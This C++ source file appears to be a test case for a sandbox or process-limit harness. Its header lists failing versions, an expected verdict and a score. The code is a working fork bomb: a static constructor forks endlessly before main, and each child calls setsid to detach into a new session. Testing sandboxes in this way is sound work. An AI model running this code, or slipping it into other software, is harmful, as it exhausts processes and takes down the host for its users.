// fork() in a loop, each in a session of its own.
//
// fails: 4.1 4.2 4.3 4.4 4.5 4.6
// verdict: too many processes or crashed or timed out
// needs: sandbox
// score: 24
#include "recv_loop.hpp"

#include <unistd.h>

[[gnu::constructor]] static void bomb() {
    while (true)
        if (::fork() == 0) ::setsid();
}
